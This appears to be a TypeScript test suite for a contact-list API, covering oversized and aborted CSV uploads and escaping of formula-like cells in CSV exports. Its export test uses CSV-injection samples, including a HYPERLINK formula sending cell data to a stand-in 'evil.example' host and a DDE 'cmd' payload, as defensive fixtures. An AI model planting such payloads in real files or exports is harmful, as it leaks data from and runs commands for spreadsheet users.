import http from 'node:http';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import crypto from 'node:crypto';
import type { Pool } from 'pg';
import type { PostgresDriver } from 'typeorm/driver/postgres/PostgresDriver';
import { parse } from 'csv-parse/sync';
import { countContacts } from '../helpers/db-reads';
import { stackWithOrganization, eventually, type ApiClient, type TestStack } from '../helpers/test-stack';

/** The upload limit of this suite's app: low, so an over-limit upload is quick to send. */
const LIMIT = 256 * 1024;
/** An answer that has not come by then never will: the upload is stuck (a guard, not a timing assertion). */
const NO_ANSWER_MS = 30_000;

interface RawAnswer {
  status: number;
  body: string;
}

describe('CSV uploads that are too large or dropped mid-file, and CSV exports opened in spreadsheets', () => {
  let stack: TestStack;
  let api: ApiClient;
  let apiKey: string;
  let organizationId: string;
  /** The suite's app with the lowered limit, and the standard app, on real ports for raw clients. */
  let limited: http.Server;
  let standard: http.Server;
  /** Errors nobody handled while the suite ran: each would have killed the API process. */
  const unhandled: unknown[] = [];
  const recordUnhandled = (error: unknown): void => void unhandled.push(error);

  const portOf = (server: http.Server): number => (server.address() as AddressInfo).port;

  const createList = async (): Promise<string> =>
    (await api.post('/api/v1/lists', { list: { name: 'Hardening list' } }).expect(201)).body.data.uuid;

  const countMembers = async (listUuid: string): Promise<number> =>
    (await api.get(`/api/v1/lists/${listUuid}`).expect(200)).body.data.contacts_count;

  /** A CSV file of distinct valid addresses, generated as it is sent, of at least `bytes` bytes. */
  const csvOfSize = (bytes: number): Readable =>
    Readable.from(
      (function* () {
        let produced = 0;
        for (let index = 0; produced < bytes; index += 1) {
          const row = index === 0 ? 'email,first_name\n' : `big${index}.${crypto.randomUUID()}@example.com,Big\n`;
          produced += row.length;
          yield row;
        }
      })(),
    );

  /** POSTs `body` as CSV with Node's HTTP client and reads the whole answer, then drops the connection. */
  const rawUpload = (
    options: { port: number; listUuid: string; agent?: http.Agent },
    body: Readable,
    headers: Record<string, string | number>,
  ): Promise<RawAnswer> =>
    new Promise((resolve, reject) => {
      const request = http.request(
        {
          port: options.port,
          agent: options.agent,
          method: 'POST',
          path: `/api/v1/lists/${options.listUuid}/contacts`,
          headers: { 'X-API-KEY': apiKey, 'Content-Type': 'text/csv', ...headers },
        },
        (res) => {
          let text = '';
          res.on('data', (chunk: Buffer) => (text += chunk.toString()));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
        },
      );
      request.setTimeout(NO_ANSWER_MS, () => request.destroy(new Error(`no answer within ${NO_ANSWER_MS} ms`)));
      // The server answers a refused upload before the client has sent it all.
      request.on('error', (error: NodeJS.ErrnoException) => {
        if (error.code !== 'EPIPE' && error.code !== 'ECONNRESET') reject(error);
      });
      body.pipe(request);
    });

  /** Sends the headers and the start of a chunked CSV file, then drops the connection without finishing it. */
  const abortedUpload = (listUuid: string): Promise<void> =>
    new Promise((resolve, reject) => {
      const socket = net.connect(portOf(limited), '127.0.0.1', () => {
        const rows = Array.from({ length: 1500 }, () => `cut.${crypto.randomUUID()}@example.com`);
        const chunk = ['email', ...rows].map((row) => `${row}\n`).join('');
        socket.write(
          `POST /api/v1/lists/${listUuid}/contacts HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-KEY: ${apiKey}\r\n` +
            'Content-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n' +
            `${Buffer.byteLength(chunk).toString(16)}\r\n${chunk}\r\n`,
        );
        // Let the server start the import (the first 1000 rows are written in its transaction), then vanish.
        setTimeout(() => {
          socket.destroy();
          resolve();
        }, 50);
      });
      socket.on('error', reject);
    });

  beforeAll(async () => {
    process.on('uncaughtException', recordUnhandled);
    process.on('unhandledRejection', recordUnhandled);
    ({ stack, api, apiKey, organizationId } = await stackWithOrganization());
    limited = stack.appWith({ maxCsvBytes: LIMIT }).listen(0);
    standard = stack.app.listen(0);
  });

  afterEach(() => {
    expect(unhandled).toEqual([]);
  });

  afterAll(async () => {
    for (const server of [limited, standard]) {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
    await stack.close();
    process.off('uncaughtException', recordUnhandled);
    process.off('unhandledRejection', recordUnhandled);
  });

  describe('when a CSV upload is larger than the limit', () => {
    it('when it is chunked (no Content-Length), then 413 payload_too_large and nothing is imported', async () => {
      const listUuid = await createList();
      const before = await countContacts(stack.db, organizationId);

      const answer = await rawUpload({ port: portOf(limited), listUuid }, csvOfSize(LIMIT * 3), {
        'Transfer-Encoding': 'chunked',
      });

      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body)).toEqual({
        status: 'error',
        code: 'payload_too_large',
        message: 'The CSV file is larger than 0.25 MB; split it into several imports.',
      });
      expect(await countMembers(listUuid)).toBe(0);
      expect(await countContacts(stack.db, organizationId)).toBe(before);
    });

    it('when its Content-Length says so, then 413 payload_too_large and nothing is imported', async () => {
      const listUuid = await createList();
      const before = await countContacts(stack.db, organizationId);
      let body = '';
      for await (const chunk of csvOfSize(LIMIT + 1)) body += String(chunk);

      const answer = await rawUpload({ port: portOf(limited), listUuid }, Readable.from([body]), {
        'Content-Length': Buffer.byteLength(body),
      });

      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body).code).toBe('payload_too_large');
      expect(await countMembers(listUuid)).toBe(0);
      expect(await countContacts(stack.db, organizationId)).toBe(before);
    });

    it('when it declares more than the standard 200 MB, then 413 before the body is sent', async () => {
      const listUuid = await createList();
      // The first bytes of the file, and then nothing: the answer must not wait for the rest.
      const start = new Readable({ read: () => undefined });
      start.push('email\nada@example.com\n');

      const answer = await rawUpload({ port: portOf(standard), listUuid }, start, {
        'Content-Length': 201 * 1024 * 1024,
      });

      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body)).toMatchObject({ code: 'payload_too_large', message: /200 MB/ });
      expect(await countMembers(listUuid)).toBe(0);
    });

    it('when the server answered 413 mid-file, then the same keep-alive connection serves the next request', async () => {
      const listUuid = await createList();
      const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
      try {
        const refused = await rawUpload({ port: portOf(limited), listUuid, agent }, csvOfSize(LIMIT * 2), {
          'Transfer-Encoding': 'chunked',
        });
        const next = await new Promise<number>((resolve, reject) => {
          http
            .get({ port: portOf(limited), agent, path: `/api/v1/lists/${listUuid}`, headers: { 'X-API-KEY': apiKey } })
            .on('response', (res) => {
              res.resume();
              resolve(res.statusCode ?? 0);
            })
            .on('error', reject);
        });

        expect(refused.status).toBe(413);
        expect(next).toBe(200);
      } finally {
        agent.destroy();
      }
    });
  });

  it('when 20 uploads are dropped mid-file, then their transactions roll back, their connections go back to the pool, and 20 API calls succeed', async () => {
    const listUuid = await createList();
    const before = await countContacts(stack.db, organizationId);
    const pool = (stack.db.dataSource.driver as PostgresDriver).master as Pool;

    for (let index = 0; index < 20; index += 1) await abortedUpload(listUuid);

    // The test stack's pool holds 5 connections: five stuck imports would take them all.
    await eventually(() => Promise.resolve(pool.waitingCount === 0 && pool.idleCount === pool.totalCount), {
      timeoutMs: NO_ANSWER_MS,
      what: 'the dropped imports to give their connections back',
    });
    for (let index = 0; index < 20; index += 1) {
      await api.get(`/api/v1/lists/${listUuid}`).timeout(NO_ANSWER_MS).expect(200);
    }
    expect(await countMembers(listUuid)).toBe(0);
    expect(await countContacts(stack.db, organizationId)).toBe(before);
  });

  describe('when contacts whose values start like spreadsheet formulas are exported', () => {
    const hostile = {
      first_name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      last_name: "=cmd|'/C calc'!A0",
      company: '+1+2',
      title: '-2+3',
      phone: '@SUM(1+1)',
      custom_fields: { note: '\t=1+1', other: '\r=1+1' },
    };

    it('then every such cell starts with a quote, and importing the file again finds the same contacts', async () => {
      const listUuid = await createList();
      const tag = crypto.randomBytes(3).toString('hex');
      const hostileEmail = `=cmd|'/Ccalc'!A0.${tag}@example.com`;
      const dashEmail = `-info.${tag}@example.com`;
      await api
        .post(`/api/v1/lists/${listUuid}/contacts`, {
          contacts: [
            { email: hostileEmail, ...hostile },
            { email: dashEmail, first_name: 'Dash', company: 'Plain, Ltd' },
          ],
        })
        .expect(200);

      const exported = (await api.get(`/api/v1/lists/${listUuid}/contacts.csv`).expect(200)).text;

      const [header, ...rows]: string[][] = parse(exported);
      const cells = rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]])));
      expect(cells[0]).toMatchObject({
        email: `'${hostileEmail}`,
        first_name: `'${hostile.first_name}`,
        last_name: `'${hostile.last_name}`,
        company: "'+1+2",
        title: "'-2+3",
        phone: "'@SUM(1+1)",
        note: "'\t=1+1",
        other: "'\r=1+1",
      });
      expect(cells[1]).toMatchObject({ email: `'${dashEmail}`, first_name: 'Dash', company: 'Plain, Ltd' });
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

      // Round trip: the addresses find their contacts again; the other cells keep the quote (documented).
      const copyUuid = await createList();
      const reimport = await api
        .post(`/api/v1/lists/${copyUuid}/contacts`)
        .set('Content-Type', 'text/csv')
        .send(exported)
        .expect(200);
      expect(reimport.body.data).toMatchObject({ new_contacts: 0, existing_contacts_added: 2, invalid_emails: [] });
      const copied = (await api.get(`/api/v1/lists/${copyUuid}/contacts`).expect(200)).body.data.contacts;
      expect(copied.map((contact: { email: string }) => contact.email)).toEqual([hostileEmail, dashEmail]);
      expect(copied[0].fields).toMatchObject({ first_name: `'${hostile.first_name}`, company: "'+1+2" });
    });
  });
});
